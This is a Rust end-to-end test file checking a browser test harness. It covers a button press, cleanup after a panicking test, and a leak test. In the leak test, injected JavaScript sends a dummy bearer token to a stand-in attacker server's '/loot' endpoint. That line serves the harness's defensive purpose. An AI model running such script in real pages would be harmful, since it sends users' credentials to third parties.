//! The harness itself: it must be able to see what the tests claim is not there.

use std::net::TcpStream;

use e2e::fixtures::app::App;
use e2e::fixtures::browser::Browser;
use e2e::fixtures::evil::Evil;
use e2e::fixtures::traffic::Traffic;
use e2e::fixtures::wait;

const PAGE: &str = r#"<!doctype html><title>x</title>
<button data-testid="go" onclick="this.nextElementSibling.textContent = 'gone'">Go</button><p data-testid="where"></p>"#;

async fn page() -> (Browser, App, Traffic) {
    let traffic = Traffic::default();
    let mut app = App::bind().await;
    app.serve_page(PAGE, &traffic);
    let browser = Browser::start().await;
    browser.open(&app.url("/")).await;
    (browser, app, traffic)
}

#[tokio::test]
async fn a_press_is_seen_on_the_page() {
    let (browser, _app, traffic) = page().await;
    assert_eq!(browser.peek_text("where").await.as_deref(), Some(""));
    browser.press("go").await;
    assert_eq!(browser.text("where").await, "gone");
    assert!(!traffic.seen_by(App::NAME).is_empty());
}

#[tokio::test]
async fn the_attacker_sees_a_leaked_header_and_referer() {
    let (browser, _app, traffic) = page().await;
    let evil = Evil::start(&traffic).await;
    let leak = "return fetch(arguments[0], { headers: { authorization: 'Bearer leaked' } }).then(r => r.status)";
    let status = browser.run(leak, vec![format!("{}/loot", evil.origin).into()]).await;
    assert_eq!(status, 200);
    let seen = traffic.seen_by(Evil::NAME);
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].headers["authorization"], "Bearer leaked");
    assert!(seen[0].headers.contains_key("referer"));
}

#[tokio::test]
async fn nothing_outlives_a_test_that_panics() {
    let (browser, _app, _traffic) = page().await;
    let (profile, driver) = (browser.profile().to_owned(), browser.driver_address());
    assert!(profile.is_dir() && TcpStream::connect(driver).is_ok());
    let test = tokio::spawn(async move {
        let _browser = browser;
        panic!("a broken expectation");
    });
    assert!(test.await.is_err());
    let gone = async || (!profile.exists() && TcpStream::connect(driver).is_err()).then_some(());
    assert_eq!(wait::until(gone).await, Some(()));
}
